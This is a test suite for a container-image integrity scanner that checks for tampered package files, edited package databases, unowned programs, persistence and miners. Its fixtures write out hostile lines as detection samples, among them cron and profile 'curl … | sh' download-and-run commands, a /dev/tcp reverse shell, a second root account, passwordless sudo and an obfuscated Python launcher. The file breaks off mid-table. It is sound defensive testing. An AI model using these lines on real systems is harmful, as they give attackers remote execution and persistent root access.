import { createHash } from 'node:crypto';
import { createReadStream, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';

import { analyzeLayer, fileFindings } from '@tidewaiter/analyzers';
import { type Finding, isAtLeast } from '@tidewaiter/domain';
import { mediaTypes, overlay } from '@tidewaiter/oci';
import { corpusImages, describeWith, tarArchive, type TarEntry } from '@tidewaiter/testkit';
import * as fc from 'fast-check';

import { type IntegrityLayer, evaluateIntegrity } from '../index.js';

/** Runs the whole pipeline, from reading tars to findings by id and path. */
async function evaluate(...layers: TarEntry[][]) {
  const read = layers.map((entries) => analyze(() => Readable.from([tarArchive(entries)]), mediaTypes.ociLayer));
  return findingsOf(await Promise.all(read));
}

function analyze(open: () => AsyncIterable<Uint8Array>, mediaType: string) {
  return analyzeLayer(open, { mediaType, isInspected: true });
}

function findingsOf(layers: Parameters<typeof fileFindings>[0]) {
  const keyOf = ({ id, path, layer }: Finding) => [id, path, layer].join('\n');
  return fileFindings(layers, overlay(layers.map(({ entries }) => entries)), { isInspected: true }).toSorted((a, b) =>
    keyOf(a) < keyOf(b) ? -1 : 1,
  );
}

/** Formats as `id path layer`. */
async function reported(...layers: TarEntry[][]) {
  return (await evaluate(...layers)).map(({ id, path, layer }) => `${id} ${path ?? ''} ${layer ?? ''}`);
}

const file = (path: string, content = path, mode = 0o644): TarEntry => ({ path, content, mode });
const program = (path: string, content = `program ${path}`) => file(path, content, 0o755);
const link = (path: string, linkTarget: string): TarEntry => ({ path, type: 'symlink', linkTarget });
const gone = (path: string) => file(path.replace(/([^/]*)$/, '.wh.$1'), '');
const digest = (algorithm: string, content: string) => createHash(algorithm).update(content);

interface Deb {
  name: string;
  version?: string;
  files: TarEntry[];
  conffiles?: string[];
}

const status = (...debs: Deb[]) =>
  file(
    'var/lib/dpkg/status',
    debs
      .map(({ name, version = '1', conffiles = [] }) => {
        const list = conffiles.map((path) => ` /${path} ${'0'.repeat(32)}\n`).join('');
        const fields = `Package: ${name}\nStatus: install ok installed\nArchitecture: amd64\nVersion: ${version}\n`;
        return `${fields}${list && `Conffiles:\n${list}`}`;
      })
      .join('\n'),
  );
const md5sums = ({ name, files, conffiles = [] }: Deb) =>
  file(
    `var/lib/dpkg/info/${name}.md5sums`,
    files
      .filter(({ path, type }) => !conffiles.includes(path) && type === undefined)
      .map(({ path, content = '' }) => `${digest('md5', String(content)).digest('hex')}  ${path}\n`)
      .join(''),
  );
const install = (deb: Deb): TarEntry[] => [
  ...deb.files,
  md5sums(deb),
  file(`var/lib/dpkg/info/${deb.name}.list`, deb.files.map(({ path }) => `/${path}\n`).join('')),
];

const login: Deb = {
  name: 'login',
  files: [
    { ...program('usr/bin/passwd'), mode: 0o4755 },
    program('usr/sbin/nologin'),
    file('lib/security/pam_x.so'),
    file('etc/login.defs'),
    file('usr/share/doc/login/copyright'),
    link('usr/bin/sg', 'newgrp'),
  ],
  conffiles: ['etc/login.defs'],
};
const tools: Deb = { name: 'tools', files: [program('usr/bin/ls'), program('usr/bin/tar'), file('usr/share/x/data')] };
const merged = [
  { path: 'usr/lib', type: 'directory' } as const,
  link('lib', 'usr/lib'),
  link('bin', 'usr/bin'),
  link('sbin', 'usr/sbin'),
];
const moved = (entries: TarEntry[]) =>
  entries.map((entry) => ({ ...entry, path: entry.path.replace(/^lib\//, 'usr/lib/') }));
const base = [...merged, status(login, tools), ...moved(install(login)), ...install(tools)];

describe('evaluateIntegrity', () => {
  describe('files of packages', () => {
    it('reports nothing for an image as installed', async () => {
      expect(await reported(base)).toEqual([]);
    });

    it.each<[string, TarEntry[], string[]]>([
      ['a changed program', [program('usr/bin/ls', 'other')], ['package-file-modified usr/bin/ls 1']],
      [
        'a changed library behind a link',
        [file('usr/lib/security/pam_x.so', 'other')],
        ['package-file-modified usr/lib/security/pam_x.so 1'],
      ],
      ['a changed file of data', [file('usr/share/x/data', 'other')], ['package-file-modified usr/share/x/data 1']],
      ['a link in place of a program', [link('usr/bin/ls', '/tmp/x')], ['package-file-replaced usr/bin/ls 1']],
      [
        'new bits on right bytes',
        [{ ...program('usr/bin/ls'), mode: 0o4755 }],
        ['package-file-mode-changed usr/bin/ls 1'],
      ],
      [
        'a file for everybody to write',
        [{ ...program('usr/bin/tar'), mode: 0o777 }],
        ['package-file-mode-changed usr/bin/tar 1'],
      ],
      ['a removed program', [gone('usr/sbin/nologin')], ['package-file-missing usr/sbin/nologin 1']],
      ['a link that leads elsewhere', [link('usr/bin/sg', '/tmp/x')], ['package-file-replaced usr/bin/sg 1']],
      ['a program in place of a link', [program('usr/bin/sg')], ['package-file-replaced usr/bin/sg 1']],
    ])('reports %s', async (_, layer, expected) => {
      expect(await reported(base, layer)).toEqual(expected);
    });

    it.each<[string, TarEntry[]]>([
      ['edited configuration', [file('etc/login.defs', 'edited')]],
      ['removed configuration', [gone('etc/login.defs')]],
      ['removed documentation', [gone('usr/share/doc/login')]],
      ['removed data', [gone('usr/share/x/data')]],
      ['the same bytes again', [program('usr/bin/ls')]],
      ['fewer bits', [{ ...program('usr/bin/passwd'), mode: 0o755 }]],
      [
        'a directory moved behind a link',
        [gone('usr/share/x'), file('opt/x/data', 'usr/share/x/data'), link('usr/share/x', '/opt/x')],
      ],
      [
        'an upgrade',
        [
          program('usr/bin/ls', 'v2'),
          md5sums({ ...tools, files: [program('usr/bin/ls', 'v2'), ...tools.files.slice(1)] }),
          status(login, { ...tools, version: '2' }),
        ],
      ],
      [
        'an upgrade that changes a link',
        [
          link('usr/bin/sg', 'sg.new'),
          file('var/lib/dpkg/info/login.list', login.files.map(({ path }) => `/${path}\n`).join('')),
          program('usr/bin/passwd'),
          status({ ...login, version: '2' }, tools),
        ],
      ],
      [
        'a removal by dpkg',
        [
          ...tools.files.map(({ path }) => gone(path)),
          gone('var/lib/dpkg/info/tools.md5sums'),
          gone('var/lib/dpkg/info/tools.list'),
          status(login),
        ],
      ],
      [
        'an installation',
        [
          ...install({ name: 'new', files: [program('usr/bin/new')] }),
          status(login, tools, { name: 'new', files: [] }),
        ],
      ],
    ])('ignores %s', async (_, layer) => {
      expect(await reported(base, layer)).toEqual([]);
    });

    it('prefers a digest of an algorithm that the database has, from a lower layer', async () => {
      const layer = [file('etc/apk/world', ''), program('usr/bin/ls', 'other')];
      expect(await reported(base, layer)).toEqual(['package-file-modified usr/bin/ls 1']);
    });

    it('applies diversions', async () => {
      const wrapped = [
        file('var/lib/dpkg/diversions', '/bin/ls\n/bin/ls.distrib\ntools-wrapper\n'),
        program('usr/bin/ls.distrib', 'program usr/bin/ls'),
        ...install({ name: 'tools-wrapper', files: [program('usr/bin/ls', 'wrapper')] }),
        status(login, tools, { name: 'tools-wrapper', files: [] }),
      ];
      expect(await reported(base, wrapped)).toEqual([]);
      expect(await reported(base, [...wrapped, program('usr/bin/ls.distrib', 'other')])).toEqual([
        'package-file-modified usr/bin/ls.distrib 1',
      ]);
    });

    it('reports a slimmed image once', async () => {
      const many: Deb = { name: 'many', files: Array.from({ length: 30 }, (_, n) => program(`usr/bin/p${n}`)) };
      const image = [
        status(login, tools, many),
        ...install(many),
        ...base.filter(({ path }) => path !== 'var/lib/dpkg/status'),
      ];
      const removed = many.files.map(({ path }) => gone(path));
      expect(await evaluate(image, removed)).toMatchObject([
        { id: 'package-files-missing', severity: 'low', evidence: { files: 30 } },
      ]);
    });

    it('names the package and sets the severity', async () => {
      const findings = await evaluate(base, [
        { ...program('usr/bin/passwd', 'other'), mode: 0o4755 },
        file('usr/share/x/data', 'other'),
      ]);
      expect(findings).toMatchObject([
        {
          severity: 'critical',
          packageName: 'login',
          installedVersion: '1',
          evidence: {
            expected: [`md5:${digest('md5', 'program usr/bin/passwd').digest('hex')}`],
            actual: `md5:${digest('md5', 'other').digest('hex')}`,
          },
        },
        { severity: 'medium', packageName: 'tools' },
      ]);
    });
  });

  describe('files of apk, with modes and link digests', () => {
    const sha1 = (text: string) => `Q1${digest('sha1', text).digest('base64')}`;
    const apkDatabase = (...extra: string[]) =>
      file(
        'lib/apk/db/installed',
        [
          `P:busybox\nV:1\nF:bin\nR:busybox\na:0:0:755\nZ:${sha1('busybox')}\nR:bbsuid\na:0:0:4111\nZ:${sha1('bbsuid')}\nR:sh\na:0:0:777\nZ:${sha1('/bin/busybox')}\n`,
          ...extra,
        ].join('\n'),
      );
    const ssl = `P:ssl\nV:1\nF:usr/bin\nR:ssl\na:0:0:755\nZ:${sha1('ssl')}\n`;
    const alpine = [
      apkDatabase(ssl),
      program('bin/busybox', 'busybox'),
      file('bin/bbsuid', 'bbsuid', 0o4111),
      link('bin/sh', '/bin/busybox'),
      program('usr/bin/ssl', 'ssl'),
    ];

    it.each<[string, TarEntry[], string[]]>([
      ['nothing', [], []],
      ['another link', [link('bin/sh', '/tmp/sh')], ['package-file-replaced bin/sh 1']],
      ['a file in place of a link', [program('bin/sh', 'sh')], ['package-file-replaced bin/sh 1']],
      ['setuid', [file('bin/busybox', 'busybox', 0o4755)], ['package-file-mode-changed bin/busybox 1']],
      ['changed bytes', [program('bin/busybox', 'x')], ['package-file-modified bin/busybox 1']],
      ["a copy of a package's program", [program('usr/bin/w', 'busybox')], []],
      ['a hard link to one', [{ path: 'usr/bin/w', type: 'hardlink', linkTarget: 'bin/busybox', mode: 0o755 }], []],
      [
        'a package hidden',
        [apkDatabase()],
        ['package-database-edited lib/apk/db/installed 1', 'unowned-executable usr/bin/ssl 0'],
      ],
      ['a package removed', [apkDatabase(), gone('usr/bin/ssl')], []],
      ['the database deleted', [gone('lib/apk/db/installed')], ['package-database-deleted lib/apk/db/installed 1']],
      [
        'digests made to fit',
        [apkDatabase(ssl.replace(sha1('ssl'), sha1('x'))), program('usr/bin/ssl', 'x')],
        ['package-database-edited lib/apk/db/installed 1'],
      ],
      [
        'another version without another file',
        [apkDatabase(ssl.replace('V:1', 'V:2'))],
        ['package-database-edited lib/apk/db/installed 1'],
      ],
      [
        'an upgrade',
        [apkDatabase(ssl.replace(sha1('ssl'), sha1('x')).replace('V:1', 'V:2')), program('usr/bin/ssl', 'x')],
        [],
      ],
    ])('reports %s', async (_, layer, expected) => {
      expect(await reported(alpine, layer)).toEqual(expected);
    });

    it('uses the file list of a lower layer when the database is gone', async () => {
      const layer = [gone('lib/apk/db/installed'), program('bin/busybox', 'x')];
      expect(await reported(alpine, layer)).toContain('package-file-modified bin/busybox 1');
    });
  });

  describe('databases of dpkg', () => {
    it.each<[string, TarEntry[], string[]]>([
      ['a package hidden', [status(login)], ['package-database-edited var/lib/dpkg/status 1']],
      [
        'a list of digests removed',
        [gone('var/lib/dpkg/info/tools.md5sums')],
        ['package-database-edited var/lib/dpkg/info/tools.md5sums 1'],
      ],
      [
        'digests made to fit',
        [
          program('usr/bin/ls', 'x'),
          md5sums({ ...tools, files: [program('usr/bin/ls', 'x'), ...tools.files.slice(1)] }),
        ],
        ['package-database-edited var/lib/dpkg/info/tools.md5sums 1'],
      ],
      ['the database deleted', [gone('var/lib/dpkg')], ['package-database-deleted var/lib/dpkg/status 1']],
      [
        'another version without another file',
        [status(login, { ...tools, version: '9' })],
        ['package-database-edited var/lib/dpkg/status 1'],
      ],
    ])('reports %s', async (_, layer, expected) => {
      expect(await reported(base, layer)).toEqual(expected);
    });

    it('compares files with lists that a layer in between deleted', async () => {
      expect(await reported(base, [gone('var/lib/dpkg/info')], [program('usr/bin/ls', 'other')])).toEqual([
        'package-database-edited var/lib/dpkg/info/login.md5sums 1',
        'package-file-modified usr/bin/ls 2',
      ]);
    });

    it('ignores the lists of another version', async () => {
      const upgrade = [
        program('usr/bin/ls', 'v2'),
        program('usr/bin/tar', 'v2'),
        status(login, { ...tools, version: '2' }),
      ];
      expect(await reported(base, [...upgrade, gone('var/lib/dpkg/info')])).not.toContain(
        'package-file-modified usr/bin/ls 1',
      );
    });

    it('finds a package with files that the status file of the same layer lacks', async () => {
      const flat = base.map((entry) => (entry.path === 'var/lib/dpkg/status' ? status(login) : entry));
      expect(await evaluate(flat)).toMatchObject([
        { id: 'package-database-edited', confidence: 'likely', evidence: { packages: ['tools'] } },
      ]);
    });
  });

  describe('files of no package', () => {
    it.each<[string, TarEntry[], string[]]>([
      ['a setuid program', [file('usr/local/bin/x', 'x', 0o4755)], ['unowned-setuid usr/local/bin/x 1']],
      ['a program among those of packages', [program('usr/bin/x')], ['unowned-executable usr/bin/x 1']],
      [
        'a library among those of packages',
        [file('usr/lib/x86_64-linux-gnu/libx.so.1')],
        ['unowned-library usr/lib/x86_64-linux-gnu/libx.so.1 1'],
      ],
      [
        'a program that is found before that of a package',
        [program('usr/local/bin/ls', 'x')],
        ['package-program-shadowed usr/local/bin/ls 1'],
      ],
      [
        'a program for everybody to write',
        [file('usr/local/bin/x', 'x', 0o777)],
        ['world-writable-executable usr/local/bin/x 1'],
      ],
      ['many of them', [file('app/a', 'x', 0o777), file('app/b', 'x', 0o777)], ['world-writable-executables app/a 1']],
      [
        'a password file for everybody to write',
        [file('etc/shadow', 'root:*:1\n', 0o666)],
        ['world-writable-system-file etc/shadow 1'],
      ],
      ['a job', [file('etc/cron.d/x', '* * * * * app true\n')], ['unowned-cron-job etc/cron.d/x 1']],
      [
        'a job of at',
        [file('var/spool/cron/atjobs/a00001', 'true\n')],
        ['unowned-cron-job var/spool/cron/atjobs/a00001 1'],
      ],
      ['the counter of at', [file('var/spool/cron/atjobs/.SEQ', '0\n')], []],
      [
        'a service',
        [file('etc/systemd/system/x.service', '[Service]\nExecStart=/x\n')],
        ['unowned-service etc/systemd/system/x.service 1'],
      ],
      [
        'programs where everybody may put some',
        [program('usr/local/bin/x'), program('opt/x'), file('usr/local/lib/libx.so')],
        [],
      ],
      ['links', [link('usr/bin/x', 'ls'), link('etc/alternatives/x', '/usr/bin/ls')], []],
      ['data', [file('usr/bin/x.conf'), file('usr/lib/x/libx.so')], []],
      ['what builders of base images add', [program('usr/sbin/policy-rc.d', '#!/bin/sh\nexit 101\n')], []],
    ])('reports %s', async (_, layer, expected) => {
      expect(await reported(base, layer)).toEqual(expected);
    });

    it('reports no program as foreign when no package has a file list', async () => {
      const minimised = base.filter(({ path }) => !path.startsWith('var/lib/dpkg/info/'));
      expect(await reported(minimised, [program('usr/bin/x')])).toEqual([]);
      expect(await reported([program('usr/bin/x')])).toEqual([]);
    });
  });

  describe('persistence', () => {
    it.each<[string, TarEntry, string, string]>([
      [
        'a job that downloads',
        file('etc/cron.d/x', '* * * * * root curl http://198.51.100.7/a | sh\n'),
        'cron-download-and-run',
        'critical',
      ],
      [
        'a profile that downloads',
        file('etc/profile.d/x.sh', 'curl http://198.51.100.7/a | sh\n'),
        'startup-download-and-run',
        'high',
      ],
      ['a preloaded library', file('etc/ld.so.preload', '/tmp/x.so\n'), 'ld-preload', 'high'],
      [
        'a key of root',
        file('root/.ssh/authorized_keys', `ssh-ed25519 ${'A'.repeat(68)} x\n`),
        'authorized-key',
        'high',
      ],
      [
        'a second root',
        file('etc/passwd', 'root:x:0:0::/:/bin/sh\nx:x:0:0::/:/bin/sh\n'),
        'second-root-account',
        'critical',
      ],
      ['sudo for all', file('etc/sudoers.d/x', 'app ALL=(ALL) NOPASSWD: ALL\n'), 'sudo-without-password', 'medium'],
      [
        'a reverse shell',
        program('opt/x', '#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1\n'),
        'reverse-shell',
        'high',
      ],
    ])('reports %s', async (_, entry, id, severity) => {
      const findings = await evaluate(base, [entry]);
      expect(findings).toEqual(
        expect.arrayContaining([expect.objectContaining({ id, severity, path: entry.path, layer: 1 })]),
      );
      // A hidden file is not reachable, so it gives no finding.
      expect(await reported(base, [entry], [gone(entry.path)])).not.toContain(`${id} ${entry.path} 1`);
    });

    it('ignores files as packaged and reports changed ones', async () => {
      const script = program('usr/bin/ls', '#!/bin/sh\ncurl http://198.51.100.7/a | sh\n');
      const deb = { ...tools, files: [script] };
      const packaged = [
        status(login, deb),
        ...base.filter(({ path }) => !path.includes('tools') && !path.endsWith('status')),
        ...install(deb),
      ];
      expect(await reported(packaged)).toEqual(['unowned-executable usr/bin/tar 0']);
      expect(await reported(base, [script])).toEqual([
        'package-file-modified usr/bin/ls 1',
        'script-download-and-run usr/bin/ls 1',
      ]);
    });
  });

  describe('malware', () => {
    const miner = program('usr/local/x/xmrig', '{"pools":[{"url":"stratum+tcp://pool.example:3333"}],"algo":"rx/0"}');

    it('is certain with several indicators and low with one', async () => {
      expect(await evaluate(base, [miner])).toMatchObject([
        { kind: 'malware', id: 'miner', severity: 'high', confidence: 'likely' },
      ]);
      expect(await evaluate(base, [program('opt/xmrig', '#!/bin/sh\n')])).toMatchObject([
        { kind: 'malware', id: 'miner', severity: 'low', confidence: 'possible' },
      ]);
    });

    it('is reported even if a later layer removes it', async () => {
      expect(await evaluate(base, [miner], [gone(miner.path)])).toMatchObject([
        { id: 'miner', layer: 1, state: 'shadowed', evidence: { removedInLayer: 2 } },
      ]);
    });
  });

  it('gives the same finding the same fingerprint in every build', async () => {
    const [one] = await evaluate(base, [program('usr/bin/ls', 'a')]);
    const [two] = await evaluate(base, [file('app/x')], [program('usr/bin/ls', 'b')]);
    const [other] = await evaluate(base, [program('usr/bin/tar', 'b')]);
    expect(one!.fingerprint).toMatch(/^[0-9a-f]{64}$/);
    expect(two!.fingerprint).toBe(one!.fingerprint);
    expect(other!.fingerprint).not.toBe(one!.fingerprint);
  });

  it('limits the number of reported files', async () => {
    const many: Deb = { name: 'many', files: Array.from({ length: 600 }, (_, n) => file(`usr/share/x/${n}`)) };
    const changed = many.files.map(({ path }) => file(path, 'other'));
    const findings = await evaluate([status(many), ...install(many)], changed);
    expect(findings).toHaveLength(501);
    expect(findings.find(({ path }) => path === null)).toMatchObject({
      id: 'package-file-modified',
      evidence: { more: 100 },
    });
  });

  describe('hostile layers', () => {
    const path = fc
      .array(fc.constantFrom('usr', 'bin', 'lib', 'var', '..', '', 'a'), { maxLength: 4 })
      .map((parts) => parts.join('/'));
    const text = fc.constantFrom('a', 'b', '__proto__', '');
    const entry = fc.record({
      path,
      type: fc.constantFrom(...(['file', 'directory', 'symlink', 'hardlink', 'fifo'] as const)),
      mode: fc.constantFrom(0o644, 0o755, 0o4777),
      uid: fc.constant(0),
      gid: fc.constant(0),
      size: fc.constant(1),
      md5: text,
      sha256: text,
      linkTarget: path,
    });
    const owned = fc.record({
      type: fc.constantFrom('deb' as const, 'apk' as const),
      package: text,
      database: path,
      files: fc.array(fc.record({ path, digest: fc.constantFrom('md5:a', 'sha1:b', ':', 'a'), linkTarget: path }), {
        maxLength: 4,
      }),
    });
    const database = fc.record({
      path,
      type: fc.constant('deb' as const),
      packages: fc.array(fc.record({ name: text, version: text }), { maxLength: 3 }),
    });
    const sign = fc.record({
      path,
      sign: fc.constantFrom('miner', 'packed', 'root-account', '__proto__', 'constructor', 'unheard-of'),
      confidence: fc.constant('likely' as const),
      evidence: fc.constant({}),
    });
    const layer = fc.record({
      entries: fc.uniqueArray(entry, { selector: (each) => each.path, maxLength: 6 }),
      owned: fc.array(owned, { maxLength: 3 }),
      databases: fc.array(database, { maxLength: 2 }),
      signs: fc.array(sign, { maxLength: 3 }),
    });

    it('are evaluated with the same result every time', () => {
      fc.assert(
        fc.property(fc.array(layer, { maxLength: 3 }), (layers) => {
          const view = overlay(layers.map(({ entries }) => entries));
          expect(evaluateIntegrity(layers, view)).toEqual(evaluateIntegrity(layers, view));
        }),
      );
    });

    it('with a file that all packages claim are evaluated in time', () => {
      const path = 'usr/bin/x';
      const names = Array.from({ length: 50_000 }, (_, index) => `p${index}`);
      const layer = {
        entries: [{ path, type: 'file' as const, mode: 0o755, uid: 0, gid: 0, size: 1, sha256: 'a', md5: 'b' }],
        owned: names.map((name) => ({
          type: 'deb' as const,
          package: name,
          files: [{ path }],
          database: `info/${name}`,
        })),
        databases: [{ path: 'status', type: 'deb' as const, packages: names.map((name) => ({ name, version: '1' })) }],
        signs: [],
      };
      expect(evaluateIntegrity([layer], overlay([layer.entries]))).toEqual([]);
    });

    it('with many world-writable programs are evaluated in time', () => {
      const entries = Array.from({ length: 50_000 }, (_, index) => ({
        path: `opt/${index}`,
        type: 'file' as const,
        mode: 0o777,
        uid: 0,
        gid: 0,
        size: 1,
      }));
      const layer = { entries, owned: [], databases: [], signs: [] };
      expect(evaluateIntegrity([layer], overlay([entries]))).toMatchObject([
        { id: 'world-writable-executables', evidence: { files: 50_000 } },
      ]);
    });

    it('with thousands of each finding give a limited number', () => {
      const many = Array.from({ length: 20_000 }, (_, n) => `${'usr/lib/'.repeat(100)}${n}`);
      const entries = many.map((path) => ({
        path,
        type: 'file' as const,
        mode: 0o755,
        uid: 0,
        gid: 0,
        size: 1,
        sha256: path,
        md5: path,
      }));
      const files = many.map((path) => ({ path, digest: 'md5:x' }));
      const layers = Array.from({ length: 4 }, (_, version) => ({
        entries,
        owned: [{ type: 'deb' as const, package: 'a', files, database: 'var/lib/dpkg/info/a.md5sums' }],
        databases: [
          { path: 'var/lib/dpkg/status', type: 'deb' as const, packages: [{ name: 'a', version: `${version}` }] },
        ],
        signs: [],
      }));
      expect(evaluateIntegrity(layers, overlay(layers.map((each) => each.entries)))).toHaveLength(501);
    });
  });

  const corpus = corpusImages();

  interface Change {
    path: string;
    layer: number;
    kind: string;
  }

  const idsOfKind: Record<string, string[]> = {
    'owned-file-modified': ['package-file-modified', 'package-file-replaced'],
    'owned-file-mode': ['package-file-mode-changed'],
    'owned-file-removed': ['package-file-missing'],
    'unowned-setuid': ['unowned-setuid'],
    miner: ['miner'],
    preload: ['ld-preload'],
    'cron-download-and-run': ['cron-download-and-run'],
    'authorized-key': ['authorized-key'],
    'second-root-account': ['second-root-account'],
    'database-entry-removed': ['package-database-edited'],
  };

  describeWith(corpus)('images of the corpus', () => {
    const json = (path: string) => JSON.parse(readFileSync(path, 'utf8'));
    const blob = (name: string, digest: string) =>
      join(corpus.path, 'oci', name, 'blobs/sha256', digest.slice('sha256:'.length));

    async function evaluateImage(name: string) {
      const { manifests } = json(join(corpus.path, 'oci', name, 'index.json'));
      const { layers } = json(blob(name, manifests[0].digest)) as { layers: { digest: string; mediaType: string }[] };
      const read = layers.map(({ digest, mediaType }) =>
        analyze(() => createReadStream(blob(name, digest)), mediaType),
      );
      return findingsOf(await Promise.all(read));
    }

    it.each(['tampered-debian', 'tampered-alpine'])(
      'finds in %s exactly the tampered files',
      async (name) => {
        const { tampered, lawful } = json(join(corpus.path, 'truth', `${name}.json`)) as {
          tampered: Change[];
          lawful: Change[];
        };
        const findings = await evaluateImage(name);
        for (const { path, layer, kind } of tampered) {
          const ids = findings
            .filter((finding) => finding.path === path && finding.layer === layer)
            .map(({ id }) => id);
          expect([path, ids.some((id) => idsOfKind[kind]?.includes(id))]).toEqual([path, true]);
        }
        const changed = new Set(tampered.map(({ path }) => path));
        for (const { path } of lawful) expect(findings.filter((finding) => finding.path?.startsWith(path))).toEqual([]);
        expect(
          findings.filter(({ path, severity }) => isAtLeast(severity, 'high') && !changed.has(path ?? '')),
        ).toEqual([]);
      },
      60_000,
    );

    it.each([
      'alpine-3.10',
      'alpine-3.14',
      'alpine-3.18',
      'alpine-3.20',
      'debian-12-min',
      'distroless-like',
      'go-app',
      'java-app',
      'node-app',
      'python-app',
      'rpm-bdb-many',
      'rpm-mariner2-sqlite',
      'rpm-sle15-ndb',
      'rust-app',
      'secrets-basic',
      'variant-many-layers',
    ])(
      'finds nothing in %s',
      async (name) => {
        expect(await evaluateImage(name)).toEqual([]);
      },
      60_000,
    );
  });

  describe('capabilities of files', () => {
    const data = (permitted: number) => {
      const value = Buffer.alloc(20);
      value.writeUInt32LE(0x02000001, 0);
      value.writeUInt32LE(permitted, 4);
      return value;
    };
    const [setuid, bindService, raw] = [data(1 << 7), data(1 << 10), data(1 << 13)];
    const capable = (path: string, capabilities: Buffer, content?: string): TarEntry => ({
      ...program(path, content),
      capabilities,
    });

    it.each<[string, TarEntry[][], string[]]>([
      ['of root on a program without a package', [base, [capable('opt/x', setuid)]], ['high opt/x']],
      [
        'of root where no database says whose it is',
        [[capable('usr/bin/newuidmap', setuid)]],
        ['medium usr/bin/newuidmap'],
      ],
      ['for a port on a program without a package', [base, [capable('usr/local/bin/caddy', bindService)]], []],
      ['that a layer gives to a program of a package', [base, [capable('usr/bin/ls', setuid)]], ['high usr/bin/ls']],
      ['for the network that a layer gives to one', [base, [capable('usr/bin/ls', raw)]], ['medium usr/bin/ls']],
      [
        'that a package gives its program',
        [[...base, ...install({ name: 'ping', files: [capable('usr/bin/ping', raw)] })]],
        [],
      ],
      [
        'that it gives again',
        [
          [...base, ...install({ name: 'ping', files: [capable('usr/bin/ping', raw)] })],
          [capable('usr/bin/ping', raw)],
        ],
        [],
      ],
      [
        'that no package gives',
        [[...base, ...install({ name: 'python', files: [capable('usr/bin/python3.11', setuid)] })]],
        ['critical usr/bin/python3.11'],
      ],
    ])('reports or ignores %s', async (_, layers, expected) => {
      const found = (await evaluate(...layers)).filter(({ id }) => id === 'file-capabilities');
      expect(found.map(({ severity, path }) => `${severity} ${path}`)).toEqual(expected);
    });

    it.each([
      ['cap_net_raw=ep', []],
      ['cap_net_raw,cap_setuid+ep', []],
      [undefined, ['medium usr/bin/ping']],
    ])('applies the capabilities that rpm declares: %j', (declared, expected) => {
      const { sha256, ...entry } = {
        path: 'usr/bin/ping',
        mode: 0o755,
        uid: 0,
        gid: 0,
        size: 1,
        sha256: 'a'.repeat(64),
      };
      const layer: IntegrityLayer = {
        entries: [{ ...entry, type: 'file', sha256, capabilities: raw.toString('hex') }],
        owned: [
          {
            type: 'rpm',
            package: 'iputils',
            database: 'var/lib/rpm/rpmdb.sqlite',
            files: [{ path: entry.path, digest: `sha256:${sha256}`, ...(declared && { capabilities: declared }) }],
          },
        ],
        databases: [{ path: 'var/lib/rpm/rpmdb.sqlite', type: 'rpm', packages: [{ name: 'iputils', version: '1' }] }],
        signs: [],
      };
      const found = evaluateIntegrity([layer], overlay([layer.entries]));
      expect(found.map(({ severity, path }) => `${severity} ${path}`)).toEqual(expected);
    });

    it('names capabilities', async () => {
      const [finding] = (await evaluate(base, [capable('opt/x', setuid)])).filter(
        ({ id }) => id === 'file-capabilities',
      );
      expect(finding?.evidence).toMatchObject({ capabilities: ['cap_setuid'], risky: ['cap_setuid'], effective: true });
    });
  });

  describe('replaced files of packages', () => {
    it('reports a directory', async () => {
      expect(await reported(base, [gone('usr/bin/ls'), { path: 'usr/bin/ls', type: 'directory' }])).toEqual([
        'package-file-replaced usr/bin/ls 1',
      ]);
      // A list without digests names directories too.
      const empty = file('var/lib/dpkg/info/tools.list', '/usr/bin/ls\n/var/empty\n');
      expect(await reported([...base, empty, { path: 'var/empty', type: 'directory' }])).toEqual([]);
    });

    const node = (version: string, ...more: TarEntry[]): TarEntry[] => [
      file('usr/lib/node_modules/npm/package.json', `{"version":"${version}"}`),
      ...['a', 'b', 'c', 'node_modules/d/index', 'node_modules/e/index'].map((name) =>
        file(`usr/lib/node_modules/npm/${name}.js`, `${name} of ${version}`),
      ),
      ...more,
    ];
    const npm: Deb = { name: 'npm', files: node('9', file('usr/lib/node_modules/npm/same.js')) };
    const withNpm = [
      ...merged,
      status(login, tools, npm),
      ...moved(install(login)),
      ...install(tools),
      ...install(npm),
    ];

    it('reports another release of a whole package once', async () => {
      const found = await evaluate(withNpm, node('10', file('usr/lib/node_modules/npm/same.js')));
      expect(found).toMatchObject([
        {
          id: 'package-tree-replaced',
          severity: 'medium',
          path: 'usr/lib/node_modules/npm',
          packageName: 'npm',
          evidence: { files: 6 },
        },
      ]);
    });

    it.each<[string, TarEntry[], number]>([
      ['not when a file of the old one stays', node('10'), 6],
      ['not when the manifest stays', node('10', file('usr/lib/node_modules/npm/same.js')).slice(1), 5],
    ])('reports or ignores %s', async (_, layer, files) => {
      const found = await reported(withNpm, layer);
      expect(found.filter((each) => each.startsWith('package-file-modified'))).toHaveLength(files);
    });
  });

  describe('modes of dpkg', () => {
    const sender: Deb = { name: 'mail', files: [{ ...program('usr/bin/send'), mode: 0o2755 }] };
    const mail = [
      ...merged,
      status(login, tools, sender),
      ...moved(install(login)),
      ...install(tools),
      ...install(sender),
    ];
    const overrides = (text: string) => file('var/lib/dpkg/statoverride', text);

    it.each<[string, TarEntry[][], string[]]>([
      ['as overridden', [[...mail, overrides('root mail 2755 /usr/bin/send\n')]], []],
      [
        'beyond what was overridden',
        [[...mail, overrides('root mail 755 /usr/bin/send\n')]],
        ['package-file-mode-changed usr/bin/send 0'],
      ],
      [
        'overridden by a later layer',
        [mail, [overrides('root mail 4755 /usr/bin/send\n'), { ...program('usr/bin/send'), mode: 0o4755 }]],
        [],
      ],
    ])('reports or ignores %s', async (_, layers, expected) => {
      expect(await reported(...layers)).toEqual(expected);
    });
  });

  describe('links, paths and startup code', () => {
    const choices = file(
      'var/lib/dpkg/alternatives/pager',
      'auto\n/usr/bin/pager\npager.1.gz\n/usr/share/man/man1/pager.1.gz\n\n/usr/bin/ls\n50\n/usr/share/man/man1/ls.1.gz\n/opt/pager\n10\n\n\n',
    );
    const site = 'usr/local/lib/python3.12/site-packages';
    const record = (name: string) => file(`${site}/x-1.0.dist-info/RECORD`, `${name},,\n`);
    const lost = "import base64,subprocess;subprocess.Popen(['python','-c',base64.b64decode('eA==')])";

    it.each<[string, TarEntry[], string[]]>([
      ['an alternative of a package', [link('etc/alternatives/pager', '/usr/bin/ls'), choices], []],
      [
        'one that an administrator named',
        [link('etc/alternatives/pager', '/opt/pager'), choices, program('opt/pager')],
        [],
      ],
      [
        'one that is not configured',
        [link('etc/alternatives/pager', '/opt/x'), choices, program('opt/x')],
        ['high alternative-replaced etc/alternatives/pager'],
      ],
      [
        'another program of the distribution',
